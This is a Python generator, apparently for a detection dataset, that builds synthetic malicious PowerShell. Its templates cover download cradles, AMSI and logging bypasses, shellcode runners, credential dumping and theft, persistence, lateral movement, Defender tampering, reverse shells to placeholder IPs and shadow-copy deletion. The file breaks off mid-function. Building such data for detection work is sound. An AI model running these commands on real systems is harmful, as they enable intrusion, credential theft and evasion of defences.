"""Malicious PowerShell as seen in incident reports; payloads are random bytes, URLs made up."""

# Templates are whole command lines, kept on one line each so a reader sees what is generated.
# ruff: noqa: E501

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from random import Random

from vigil.datasets import _vocab as v
from vigil.datasets.obfuscation import encode_utf16, encoded_flag

_IEX = ("IEX", "iex", "Invoke-Expression", "IEX", "iex")
_FOLLOW_UPS = (
    "",
    "",
    "Invoke-Mimikatz -DumpCreds",
    "Invoke-Shellcode -Force",
    "Invoke-PowerShellTcp -Reverse -IPAddress {ip} -Port {port}",
    "Invoke-AllChecks",
    "Invoke-Kerberoast -OutputFormat Hashcat",
    "Get-GPPPassword",
    "Invoke-BloodHound -CollectionMethod All",
)


def _follow_up(rng: Random) -> str:
    step = rng.choice(_FOLLOW_UPS).format(
        ip=v.public_ip(rng), port=rng.choice((443, 4444, 8080, 53))
    )
    return f"; {step}" if step else ""


def _cradle(rng: Random, url: str | None = None) -> str:
    """A one-line download-and-run, used inside other families' payloads."""
    url = url or v.payload_url(rng)
    return rng.choice(
        (
            f"IEX (New-Object Net.WebClient).DownloadString('{url}')",
            f"iex ((New-Object System.Net.WebClient).DownloadString('{url}'))",
            f"IEX(iwr '{url}' -UseBasicParsing)",
            f"(New-Object Net.WebClient).DownloadString('{url}') | IEX",
            f"irm '{url}' | iex",
        )
    )


def _encoded_launch(rng: Random, script: str, exe: str | None = None) -> str:
    flags = rng.choice(
        (
            "-nop -w hidden",
            "-NoP -NonI -W Hidden",
            "-nop -ep bypass",
            "-w 1 -nop",
            "-noni -nop -w hidden -exec bypass",
        )
    )
    exe = exe or rng.choice(("powershell.exe", "powershell", "PowerShell.exe"))
    return f"{exe} {flags} {encoded_flag(rng)} {encode_utf16(script)}"


def webclient_cradle(rng: Random) -> str:
    url = v.payload_url(rng)
    iex = rng.choice(_IEX)
    k = rng.randrange(7)
    if k == 0:
        body = f"{iex} (New-Object Net.WebClient).DownloadString('{url}')"
    elif k == 1:
        body = f"{iex}(New-Object System.Net.WebClient).DownloadString('{url}')"
    elif k == 2:
        body = f"(New-Object Net.WebClient).DownloadString('{url}') | {iex}"
    elif k == 3:
        body = (
            f"$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','{rng.choice(v.USER_AGENTS)}');"
            "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;"
            "$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;"
            f"{iex} $wc.DownloadString('{url}')"
        )
    elif k == 4:
        body = (
            "[System.Net.ServicePointManager]::SecurityProtocol=[System.Net.SecurityProtocolType]::Tls12;"
            f"{iex} ((New-Object Net.WebClient).DownloadString('{url}'))"
        )
    elif k == 5:
        body = f"$d=(New-Object Net.WebClient).DownloadData('{url}');{iex} ([Text.Encoding]::ASCII.GetString($d))"
    else:
        body = f"$u='{url}';$c=New-Object Net.WebClient;{iex}($c.DownloadString($u))"
    return body + _follow_up(rng)


def iwr_cradle(rng: Random) -> str:
    url = v.payload_url(rng)
    k = rng.randrange(7)
    if k == 0:
        return f"iwr {url} -UseBasicParsing | iex"
    if k == 1:
        return f"IEX (Invoke-WebRequest -Uri '{url}' -UseBasicParsing).Content"
    if k == 2:
        return f"irm {url} | iex"
    if k == 3:
        return f"Invoke-RestMethod -Uri '{url}' | Invoke-Expression"
    if k == 4:
        return f"iex (iwr '{url}')" + _follow_up(rng)
    if k == 5:
        return f"&([scriptblock]::Create((irm '{url}')))"
    return f"$r=Invoke-WebRequest -Uri '{url}' -UserAgent '{rng.choice(v.USER_AGENTS)}' -UseBasicParsing;iex $r.Content"


def bits_download_exec(rng: Random) -> str:
    url = v.payload_url(rng, ext=rng.choice((".exe", ".dll", ".bin", ".jpg")))
    exe, drop = v.exe_name(rng), v.drop_dir(rng)
    job = rng.choice(("update", "job", "sync", v.token(rng, 5).lower(), "msupdate"))
    k = rng.randrange(4)
    if k == 0:
        return f"Start-BitsTransfer -Source {url} -Destination {drop}\\{exe}; Start-Process {drop}\\{exe}"
    if k == 1:
        return f'Import-Module BitsTransfer; Start-BitsTransfer \'{url}\' "{drop}\\{exe}"; & "{drop}\\{exe}"'
    if k == 2:
        return f"bitsadmin /transfer {job} /download /priority high {url} C:\\Users\\Public\\{exe}; Start-Process C:\\Users\\Public\\{exe} -WindowStyle Hidden"
    return f"bitsadmin.exe /transfer {job} /download /priority foreground {url} C:\\ProgramData\\{exe} & start C:\\ProgramData\\{exe}"


def certutil_download(rng: Random) -> str:
    url = v.payload_url(rng, ext=rng.choice((".exe", ".txt", ".crt", ".b64")))
    exe = v.exe_name(rng)
    stem = exe.rsplit(".", 1)[0]
    k = rng.randrange(4)
    if k == 0:
        return f"certutil.exe -urlcache -split -f {url} $env:TEMP\\{exe}; Start-Process $env:TEMP\\{exe}"
    if k == 1:
        return (
            f"certutil -urlcache -f {url} C:\\Users\\Public\\{stem}.txt; certutil -decode C:\\Users\\Public\\{stem}.txt "
            f"C:\\Users\\Public\\{exe}; & C:\\Users\\Public\\{exe}"
        )
    if k == 2:
        return f"certutil.exe -verifyctl -f -split {url} {exe}"
    return f"cmd.exe /c certutil -urlcache -split -f {url} %TEMP%\\{exe} && %TEMP%\\{exe}"


def hidden_process_dropper(rng: Random) -> str:
    url = v.payload_url(rng, ext=rng.choice((".exe", ".dll", ".ps1", ".hta", ".sct")))
    exe, drop = v.exe_name(rng), v.drop_dir(rng)
    k = rng.randrange(6)
    if k == 0:
        return (
            f"(New-Object Net.WebClient).DownloadFile('{url}', \"{drop}\\{exe}\"); "
            f'Start-Process -FilePath "{drop}\\{exe}" -WindowStyle Hidden'
        )
    if k == 1:
        return f"Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c IEX(New-Object Net.WebClient).DownloadString(''{url}'')'"
    if k == 2:
        return f"Invoke-WebRequest {url} -OutFile {drop}\\{exe}; Start-Process {drop}\\{exe} -WindowStyle Hidden; Remove-Item $MyInvocation.MyCommand.Path -Force"
    if k == 3:
        dll = v.token(rng, 6).lower() + ".dll"
        return f"Invoke-WebRequest -Uri {url} -OutFile C:\\ProgramData\\{dll}; rundll32.exe C:\\ProgramData\\{dll},DllRegisterServer"
    if k == 4:
        return f"regsvr32.exe /s /n /u /i:{url} scrobj.dll"
    return f"mshta.exe {url}; Start-Sleep -s {rng.randint(2, 30)}; Start-Process -WindowStyle Hidden {drop}\\{exe}"


def encoded_stager(rng: Random) -> str:
    server = f"http{'s' if rng.random() < 0.5 else ''}://{rng.choice((v.evil_domain(rng), v.public_ip(rng)))}:{rng.choice((80, 443, 8080, 8443))}"
    k = rng.randrange(3)
    if k == 0:  # PowerShell Empire-like stager, RC4 key and session cookie random
        key = v.token(rng, 32, "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) not in "'\"`$"))
        script = (
            "If($PSVersionTable.PSVersion.Major -ge 3){};[System.Net.ServicePointManager]::Expect100Continue=0;"
            f"$wc=New-Object System.Net.WebClient;$u='{rng.choice(v.USER_AGENTS)}';$wc.Headers.Add('User-Agent',$u);"
            "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;"
            f"$K=[System.Text.Encoding]::ASCII.GetBytes('{key}');"
            "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
            "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};"
            f"$wc.Headers.Add('Cookie','session={v.random_b64(rng, 18, 24)}');$ser='{server}';$t='/{rng.choice(('login/process.php', 'admin/get.php', 'news.php'))}';"
            "$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX"
        )
        return f"powershell -noP -sta -w 1 {encoded_flag(rng)} {encode_utf16(script)}"
    if k == 1:  # Cobalt Strike-like scripted web delivery
        script = (
            f"IEX ((new-object net.webclient).downloadstring('{server}/{v.token(rng, 4).lower()}'))"
        )
        return f"powershell.exe -nop -w hidden {encoded_flag(rng)} {encode_utf16(script)}"
    # Metasploit web_delivery-like
    script = (
        "$a=new-object net.webclient;if([System.Net.WebProxy]::GetDefaultProxy().address -ne $null)"
        "{$a.proxy=[Net.WebRequest]::GetSystemWebProxy();$a.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;};"
        f"IEX $a.downloadstring('{server}/{v.token(rng, 8)}');"
    )
    return f"powershell.exe -nop -w hidden {encoded_flag(rng)} {encode_utf16(script)}"


def amsi_bypass(rng: Random) -> str:
    k = rng.randrange(5)
    if k == 0:
        body = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
    elif k == 1:
        body = (
            "$a=[Ref].Assembly.GetTypes();Foreach($b in $a) {if ($b.Name -like '*iUtils') {$c=$b}};"
            "$d=$c.GetFields('NonPublic,Static');Foreach($e in $d) {if ($e.Name -like '*Context') {$f=$e}};"
            "$g=$f.GetValue($null);[IntPtr]$ptr=$g;[Int32[]]$buf = @(0);"
            "[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $ptr, 1)"
        )
    elif k == 2:
        body = (
            "$w = 'System.Management.Automation.A';$c = 'si';$m = 'Utils';"
            "$assembly = [Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m));"
            "$field = $assembly.GetField(('am{0}InitFailed' -f $c),'NonPublic,Static');$field.SetValue($null,$true)"
        )
    elif k == 3:
        body = (
            '$Win32 = Add-Type -MemberDefinition \'[DllImport("kernel32")] public static extern IntPtr GetProcAddress(IntPtr hModule, string procName); '
            '[DllImport("kernel32")] public static extern IntPtr LoadLibrary(string name); '
            '[DllImport("kernel32")] public static extern bool VirtualProtect(IntPtr lpAddress, UIntPtr dwSize, uint flNewProtect, out uint lpflOldProtect);\' '
            "-Name Win32 -Namespace Win32Functions -PassThru;"
            "$Address = $Win32::GetProcAddress($Win32::LoadLibrary('amsi.dll'), 'AmsiScanBuffer');$p = 0;"
            "$Win32::VirtualProtect($Address, [uint32]5, 0x40, [ref]$p);$Patch = [Byte[]] (0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3);"
            "[System.Runtime.InteropServices.Marshal]::Copy($Patch, 0, $Address, 6)"
        )
    else:
        body = "[Runtime.InteropServices.Marshal]::WriteInt32([Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiContext',[Reflection.BindingFlags]'NonPublic,Static').GetValue($null),0x41414141)"
    if rng.random() < 0.6:
        body += ";" + _cradle(rng)
    return body


def logging_bypass(rng: Random) -> str:
    k = rng.randrange(4)
    if k == 0:
        body = (
            "$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static');"
            "If($GPF){$GPC=$GPF.GetValue($null);If($GPC['ScriptBlockLogging']){$GPC['ScriptBlockLogging']['EnableScriptBlockLogging']=0;"
            "$GPC['ScriptBlockLogging']['EnableScriptBlockInvocationLogging']=0}}"
        )
    elif k == 1:
        body = "Set-ItemProperty -Path 'HKLM:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' -Name EnableScriptBlockLogging -Value 0 -Force"
    elif k == 2:
        body = (
            "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider')"
            ".GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider')"
            ".GetField('etwProvider','NonPublic,Static').GetValue($null),0)"
        )
    else:
        body = "wevtutil cl 'Windows PowerShell'; wevtutil cl Microsoft-Windows-PowerShell/Operational; wevtutil cl Security; Clear-History"
    if rng.random() < 0.5:
        body += ";" + _cradle(rng)
    return body


def reflective_load(rng: Random) -> str:
    ns = rng.choice(("SharpLoader", "Rubeus", "Seatbelt", "SharpUp", "Loader", v.token(rng, 7)))
    k = rng.randrange(4)
    if k == 0:
        pe = v.random_b64(rng, 300, 900, v.PE_HEADER)
        return f"[System.Reflection.Assembly]::Load([Convert]::FromBase64String('{pe}')).EntryPoint.Invoke($null, @(,[string[]]@()))"
    if k == 1:
        pe = v.random_b64(rng, 300, 900, v.PE_HEADER)
        return f"$a=[Reflection.Assembly]::Load([Convert]::FromBase64String('{pe}'));[{ns}.Program]::Main(@('{rng.choice(('triage', 'all', 'kerberoast', 'dump'))}'))"
    if k == 2:
        url = v.payload_url(rng, ext=rng.choice((".dll", ".bin", ".exe", ".jpg")))
        return f"$bytes=(New-Object Net.WebClient).DownloadData('{url}');[Reflection.Assembly]::Load($bytes).GetType('{ns}.Program').GetMethod('Main').Invoke($null,$null)"
    url = v.payload_url(rng, ext=".dll")
    return f"$b=(iwr '{url}' -UseBasicParsing).Content;$asm=[System.Reflection.Assembly]::Load([byte[]]$b);$asm.EntryPoint.Invoke($null,(,[string[]]('{v.public_ip(rng)}')))"


def shellcode_runner(rng: Random) -> str:
    sc = v.random_b64(rng, 250, 700, rng.choice(v.SHELLCODE_PREFIXES))
    name = rng.choice(("Win32", "Kernel32", "K32", v.token(rng, 5)))
    k = rng.randrange(3)
    if k == 0:
        return (
            f'$code = @\'\n[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr lpAddress, uint dwSize, uint flAllocationType, uint flProtect);\n'
            '[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr lpThreadAttributes, uint dwStackSize, IntPtr lpStartAddress, IntPtr lpParameter, uint dwCreationFlags, IntPtr lpThreadId);\n'
            '[DllImport("kernel32.dll")] public static extern uint WaitForSingleObject(IntPtr hHandle, uint dwMilliseconds);\n\'@\n'
            f"$w = Add-Type -MemberDefinition $code -Name '{name}' -Namespace Win32Functions -PassThru\n"
            f"[Byte[]]$sc = [System.Convert]::FromBase64String('{sc}')\n"
            "$mem = $w::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n"
            "[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $mem, $sc.Length)\n"
            "$t = $w::CreateThread(0, 0, $mem, 0, 0, 0)\n$w::WaitForSingleObject($t, [uint32]'0xFFFFFFFF')"
        )
    if k == 1:
        raw = rng.choice(v.SHELLCODE_PREFIXES) + rng.randbytes(rng.randint(120, 300))
        array = ",".join(f"0x{b:02x}" for b in raw)
        return (
            '$s=\'[DllImport("kernel32.dll")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d);'
            '[DllImport("kernel32.dll")]public static extern IntPtr CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);'
            '[DllImport("msvcrt.dll")]public static extern IntPtr memset(IntPtr a,uint b,uint c);\';'
            f"$w=Add-Type -memberDefinition $s -Name '{name}' -namespace Win32Functions -passthru;"
            f"[Byte[]];[Byte[]]$z={array};"
            "$g=0x1000;if ($z.Length -gt 0x1000){$g=$z.Length};$x=$w::VirtualAlloc(0,0x1000,$g,0x40);"
            "for ($i=0;$i -le ($z.Length-1);$i++) {$w::memset([IntPtr]($x.ToInt32()+$i), $z[$i], 1)};$w::CreateThread(0,0,$x,0,0,0);for (;;){Start-sleep 60}"
        )
    return (
        "function LookupFunc { Param ($moduleName, $functionName); $assem = ([AppDomain]::CurrentDomain.GetAssemblies() | "
        "Where-Object { $_.GlobalAssemblyCache -And $_.Location.Split('\\\\')[-1].Equals('System.dll') }).GetType('Microsoft.Win32.UnsafeNativeMethods'); "
        "$tmp=@(); $assem.GetMethods() | ForEach-Object {If($_.Name -eq 'GetProcAddress') {$tmp+=$_}}; "
        "return $tmp[0].Invoke($null, @(($assem.GetMethod('GetModuleHandle')).Invoke($null, @($moduleName)), $functionName)) };"
        "function getDelegateType { Param ([Parameter(Position = 0, Mandatory = $True)] [Type[]] $func, [Parameter(Position = 1)] [Type] $delType = [Void]); "
        "$type = [AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object System.Reflection.AssemblyName('ReflectedDelegate')), "
        "[System.Reflection.Emit.AssemblyBuilderAccess]::Run).DefineDynamicModule('InMemoryModule', $false).DefineType('MyDelegateType', "
        "'Class, Public, Sealed, AnsiClass, AutoClass', [System.MulticastDelegate]); return $type.CreateType() };"
        "$lpMem = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((LookupFunc kernel32.dll VirtualAlloc), "
        "(getDelegateType @([IntPtr], [UInt32], [UInt32], [UInt32]) ([IntPtr]))).Invoke([IntPtr]::Zero, 0x1000, 0x3000, 0x40);"
        f"[Byte[]] $buf = [Convert]::FromBase64String('{sc}');"
        "[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $lpMem, $buf.length);"
        "$hThread = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((LookupFunc kernel32.dll CreateThread), "
        "(getDelegateType @([IntPtr], [UInt32], [IntPtr], [IntPtr], [UInt32], [IntPtr]) ([IntPtr]))).Invoke([IntPtr]::Zero,0,$lpMem,[IntPtr]::Zero,0,[IntPtr]::Zero)"
    )


def credential_dumping(rng: Random) -> str:
    drop = rng.choice(("C:\\Windows\\Temp", "C:\\Users\\Public", "C:\\ProgramData", "$env:TEMP"))
    dump = rng.choice(("lsass.dmp", "debug.bin", "out.dmp", f"{v.token(rng, 6).lower()}.log"))
    k = rng.randrange(7)
    if k == 0:
        return (
            _cradle(rng, v.payload_url(rng, ext="/Invoke-Mimikatz.ps1"))
            + "; Invoke-Mimikatz -DumpCreds"
        )
    if k == 1:
        return 'Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords" "exit"\''
    if k == 2:
        return f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id {drop}\\{dump} full"
    if k == 3:
        return f"$p = Get-Process lsass; & rundll32.exe comsvcs.dll MiniDump $p.Id {drop}\\{dump} full; Compress-Archive {drop}\\{dump} {drop}\\{dump}.zip"
    if k == 4:
        return f".\\procdump64.exe -accepteula -ma lsass.exe {drop}\\{dump}"
    if k == 5:
        return f'& {drop}\\m.exe "privilege::debug" "sekurlsa::logonpasswords" "lsadump::sam" exit > {drop}\\o.txt'
    return f"Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:{rng.choice(v.DOMAINS)} /user:krbtgt\"'"


def credential_harvest(rng: Random) -> str:
    url = v.payload_url(rng, ext=rng.choice((".php", "/collect", "/api/c", "")))
    k = rng.randrange(6)
    if k == 0:
        return (
            "$cred = $host.ui.PromptForCredential('Windows Security', 'Your session has expired. Please re-enter your credentials.', "
            f"$env:USERNAME, $env:USERDOMAIN); Invoke-WebRequest -Uri {url} -Method Post -Body @{{u=$cred.UserName; p=$cred.GetNetworkCredential().Password}}"
        )
    if k == 1:
        return (
            "$c = Get-Credential -UserName \"$env:USERDOMAIN\\$env:USERNAME\" -Message 'Microsoft Outlook needs your password to reconnect'; "
            "$c.GetNetworkCredential().Password | Out-File -Append C:\\Users\\Public\\Libraries\\desktop.dat"
        )
    if k == 2:
        return "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save; reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save; reg save HKLM\\SECURITY C:\\Windows\\Temp\\security.save"
    if k == 3:
        return "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' | Select-Object DefaultUserName, DefaultPassword, DefaultDomainName"
    if k == 4:
        return (
            'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" $env:TEMP\\ld.db; '
            f"Invoke-RestMethod -Uri {url} -Method Post -InFile $env:TEMP\\ld.db"
        )
    return "cmdkey /list; vaultcmd /listcreds:'Windows Credentials' /all; Get-ChildItem -Path C:\\Users -Include *.kdbx,unattend.xml,web.config -Recurse -ErrorAction SilentlyContinue"


def persistence_schtasks(rng: Random) -> str:
    task = rng.choice(
        (
            "MicrosoftEdgeUpdateTaskMachineUA",
            "OneDrive Standalone Update",
            "GoogleUpdateTaskMachine",
            "WindowsDefenderUpdate",
            "SystemHealthCheck",
            v.token(rng, 8),
        )
    )
    payload = _encoded_launch(rng, _cradle(rng))
    trigger = rng.choice(
        (
            "/sc onlogon",
            "/sc onstart",
            "/sc minute /mo 30",
            "/sc daily /st 09:00",
            "/sc onidle /i 10",
        )
    )
    k = rng.randrange(3)
    if k == 0:
        return f'schtasks /create /tn "{task}" /tr "{payload}" {trigger} /ru SYSTEM /f'
    if k == 1:
        return (
            f"$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-nop -w hidden -c \"{_cradle(rng).replace(chr(39), chr(39) * 2)}\"'; "
            f"Register-ScheduledTask -TaskName '{task}' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn) -RunLevel Highest -Force"
        )
    return f'schtasks.exe /Create /F /RU SYSTEM /SC ONSTART /TN "\\Microsoft\\Windows\\{task}" /TR "powershell.exe -ep bypass -w hidden -File C:\\ProgramData\\{v.token(rng, 6).lower()}.ps1"'


def persistence_run_key(rng: Random) -> str:
    name = rng.choice(
        (
            "OneDriveUpdate",
            "SecurityHealth",
            "AdobeUpdater",
            "WindowsUpdate",
            "Teams",
            v.token(rng, 7),
        )
    )
    hive = rng.choice(("HKCU", "HKLM"))
    key = f"{hive}:\\Software\\Microsoft\\Windows\\CurrentVersion\\{rng.choice(('Run', 'Run', 'RunOnce'))}"
    payload = _encoded_launch(rng, _cradle(rng))
    k = rng.randrange(4)
    if k == 0:
        return f"New-ItemProperty -Path '{key}' -Name '{name}' -Value '{payload}' -PropertyType String -Force"
    if k == 1:
        return f"Set-ItemProperty -Path '{key}' -Name '{name}' -Value 'C:\\Users\\Public\\{v.exe_name(rng)}'"
    if k == 2:
        return f'reg add {hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name} /t REG_SZ /d "{payload}" /f'
    return (
        f'Copy-Item $PSCommandPath "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{name}.ps1"; '
        f"New-ItemProperty -Path '{key}' -Name '{name}' -Value \"powershell -w hidden -ep bypass -File $env:APPDATA\\{name}.ps1\" -Force"
    )


def persistence_wmi(rng: Random) -> str:
    name = rng.choice(("SCM Event Filter", "Updater", "DSMConsumer", v.token(rng, 8)))
    payload = _encoded_launch(rng, _cradle(rng))
    return (
        f"$filter = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{{Name='{name}';EventNamespace='root\\cimv2';"
        "QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}; "
        f"$consumer = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{{Name='{name}';CommandLineTemplate='{payload}'}}; "
        "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}"
    )


def lateral_wmi(rng: Random) -> str:
    host = v.host(rng)
    payload = _encoded_launch(rng, _cradle(rng))
    k = rng.randrange(4)
    if k == 0:
        return f"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList '{payload}' -ComputerName {host}"
    if k == 1:
        return f"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{{CommandLine='{payload}'}} -ComputerName {host}"
    if k == 2:
        return f"([wmiclass]\"\\\\{host}\\root\\cimv2:Win32_Process\").Create('{payload}')"
    return f'wmic /node:{host} process call create "{payload}"'


def lateral_remoting(rng: Random) -> str:
    host, user = (
        v.host(rng),
        f"{rng.choice(v.NETBIOS)}\\{rng.choice(('administrator', 'adm-' + rng.choice(v.LAST), 'svc_backup', 'svc_sql'))}",
    )
    password = rng.choice(("P@ssw0rd!", "Summer2024!", "Welcome1", "Winter2023#", v.token(rng, 10)))
    creds = (
        f"$pw = ConvertTo-SecureString '{password}' -AsPlainText -Force; "
        f"$c = New-Object System.Management.Automation.PSCredential('{user}', $pw); "
    )
    k = rng.randrange(5)
    if k == 0:
        return (
            creds
            + f"Invoke-Command -ComputerName {host} -Credential $c -ScriptBlock {{ {_cradle(rng)} }}"
        )
    if k == 1:
        return creds + f"Enter-PSSession -ComputerName {host} -Credential $c"
    if k == 2:
        return f".\\PsExec.exe \\\\{host} -accepteula -s -d {_encoded_launch(rng, _cradle(rng))}"
    if k == 3:
        svc = v.token(rng, 6)
        return f'sc.exe \\\\{host} create {svc} binPath= "cmd /c {_encoded_launch(rng, _cradle(rng))}"; sc.exe \\\\{host} start {svc}'
    return (
        creds
        + f"New-PSDrive -Name X -PSProvider FileSystem -Root \\\\{host}\\C$ -Credential $c; Copy-Item .\\{v.exe_name(rng)} X:\\Windows\\Temp\\"
    )


def defender_tamper(rng: Random) -> str:
    k = rng.randrange(6)
    if k == 0:
        return "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true"
    if k == 1:
        path = rng.choice(
            ("C:\\Users\\Public", "C:\\ProgramData", "C:\\", "$env:TEMP", "C:\\Windows\\Temp")
        )
        return f"Add-MpPreference -ExclusionPath '{path}'; Add-MpPreference -ExclusionExtension 'exe','ps1'"
    if k == 2:
        return "Set-MpPreference -DisableRealtimeMonitoring 1; Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2"
    if k == 3:
        return "New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force"
    if k == 4:
        return "sc.exe stop WinDefend; sc.exe config WinDefend start= disabled; Stop-Service -Name Sense -Force"
    return "Uninstall-WindowsFeature -Name Windows-Defender; Remove-WindowsFeature Windows-Defender-GUI"


def reverse_shell(rng: Random) -> str:
    ip = v.public_ip(rng) if rng.random() < 0.8 else v.internal_ip(rng)
    port = rng.choice((443, 4444, 53, 8080, 1337, 9001, 80))
    k = rng.randrange(3)
    if k == 0:
        return (
            f"$client = New-Object System.Net.Sockets.TCPClient('{ip}',{port});$stream = $client.GetStream();"
            "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
            "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
            "$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';"
            "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()"
        )
    if k == 1:
        return (
            _cradle(rng, v.payload_url(rng, ext="/powercat.ps1"))
            + f"; powercat -c {ip} -p {port} -e cmd"
        )
    return (
        f"$c=New-Object Net.Sockets.TcpClient;$c.Connect('{ip}',{port});$s=$c.GetStream();$w=New-Object IO.StreamWriter($s);"
        "$r=New-Object IO.StreamReader($s);while($true){$cmd=$r.ReadLine();$o=iex $cmd 2>&1|Out-String;$w.WriteLine($o);$w.Flush()}"
    )


def ransomware_prep(rng: Random) -> str:
    steps = [
        "vssadmin delete shadows /all /quiet",
        "wmic shadowcopy delete",
        "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }",
        "bcdedit /set {default} recoveryenabled no",
        "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
        "wbadmin delete catalog -quiet",
        "Stop-Service -Name MSSQLSERVER,VeeamBackupSvc,SQLWriter -Force",
        "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance",
    ]
    return "; ".join(rng.sample(steps, rng.randint(1, 4)))


def compressed_payload(rng: Random) -> str:
    inner = rng.choice((_cradle(rng), reverse_shell(rng), amsi_bypass(rng)))
    gzip = rng.random() < 0.35
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31 if gzip else -15)
    data = base64.b64encode(
        compressor.compress(inner.encode("ascii", "replace")) + compressor.flush()
    ).decode("ascii")
    stream = "IO.Compression.GzipStream" if gzip else "IO.Compression.DeflateStream"
    iex = rng.choice(("IEX", "iex", "Invoke-Expression", ". ( $ShellId[1]+$ShellId[13]+'x')"))
    k = rng.randrange(2)
    if k == 0:
        return (
            f"{iex}(New-Object IO.StreamReader((New-Object {stream}([IO.MemoryStream][Convert]::FromBase64String('{data}'),"
            "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
        )
    return (
        f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{data}'));"
        f"{iex} (New-Object IO.StreamReader(New-Object {stream}($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )


def ad_recon_tools(rng: Random) -> str:
    k = rng.randrange(5)
    if k == 0:
        return (
            _cradle(rng, v.payload_url(rng, ext="/PowerView.ps1"))
            + "; Get-NetUser -SPN | Select-Object samaccountname, serviceprincipalname; Invoke-ShareFinder -CheckShareAccess"
        )
    if k == 1:
        return (
            _cradle(rng, v.payload_url(rng, ext="/SharpHound.ps1"))
            + f"; Invoke-BloodHound -CollectionMethod All -ZipFileName {v.token(rng, 6)}.zip -OutputDirectory $env:TEMP"
        )
    if k == 2:
        return "Add-Type -AssemblyName System.IdentityModel; setspn.exe -T * -Q */* | Select-String '^CN' -Context 0,1 | ForEach-Object { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Context.PostContext[0].Trim() }"
    if k == 3:
        return "net group 'domain admins' /domain; nltest /dclist:; net user /domain; Get-ADComputer -Filter * -Properties * | Export-Csv $env:TEMP\\c.csv"
